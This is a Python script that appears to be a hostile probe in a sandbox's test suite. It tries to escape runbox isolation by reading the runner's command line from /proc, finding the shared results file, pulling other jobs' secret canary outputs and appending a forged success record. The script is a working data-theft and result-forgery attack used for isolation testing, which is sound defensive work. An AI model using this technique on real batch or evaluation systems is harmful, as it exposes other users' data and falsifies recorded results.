"""Finds runbox's results file (from runbox's command line, or by looking in
the three directories above its working dir), reads other jobs' output from
it and appends a forged record. A results file of the job's own uid is the
documented exposure of running without root and without Landlock ("GAP
shared-uid"); reading one of another uid (runbox as root) is an escape. (It
writes only to a file it has recognised as this batch's results.)"""
import os
import re
import sys
import time
A = dict(a.split("=", 1) for a in sys.argv[1:] if "=" in a)
PATTERN = re.compile(rb"RB" + rb"SECRET-[A-Z]+-[0-9a-f]{32}")
uid = os.getuid()
candidates = []
try:
    with open("/proc/%s/cmdline" % A["runbox_pid"], "rb") as f:
        args = f.read().split(b"\0")
    for i, a in enumerate(args):
        if a in (b"-o", b"--output") and i + 1 < len(args):
            out = args[i + 1].decode()
            if not out.startswith("/"):  # relative to runbox's cwd, which the runner passes
                out = os.path.join(A["runbox_cwd"], out)
            candidates.append(out)
    print("runbox's command line is visible", flush=True)
except OSError as e:
    print("DENIED runbox's cmdline:", e, flush=True)
d = os.getcwd()
for _ in range(3):  # runbox's dir of working dirs, --workdir, and the dir holding it
    d = os.path.dirname(d)
    try:
        candidates += [os.path.join(d, n) for n in os.listdir(d) if n.endswith(".jsonl")]
    except OSError:
        pass
candidates = sorted(set(candidates))
print("candidates", candidates, flush=True)
forged = ('{"id":"hostile-forged-record","status":"ok","return_code":0,"timed_out":false,'
          '"runtime":0,"cpu_time":0,"max_rss_kb":0,"stdout":"forged","stdout_truncated":false,'
          '"stderr":"","stderr_truncated":false,"error":null,"error_detail":null,"doc":null,'
          '"signal":null,"had_unexpected_error":false}\n')
for path in candidates:
    try:
        owner = os.stat(path).st_uid
    except OSError:
        owner = -1
    how = "GAP shared-uid" if owner == uid else "ESCAPED (uid %d's)" % owner
    try:
        for _ in range(10):
            with open(path, "rb") as f:
                data = f.read()
            if PATTERN.search(data):
                break
            time.sleep(0.1)
        print("%s read runbox's results file (%d bytes)" % (how, len(data)), flush=True)
        found = set(PATTERN.findall(data))
        for m in found:
            print("%s another job's output: %r" % (how, m[:24] + b"..."), flush=True)
    except OSError as e:
        print("DENIED reading %s: %s" % (path, e), flush=True)
        continue
    if not found:
        continue  # not this batch's results: leave it alone
    try:
        with open(path, "a") as f:
            f.write(forged)
        print("%s appended a forged record" % how, flush=True)
    except OSError as e:
        print("DENIED writing %s: %s" % (path, e), flush=True)
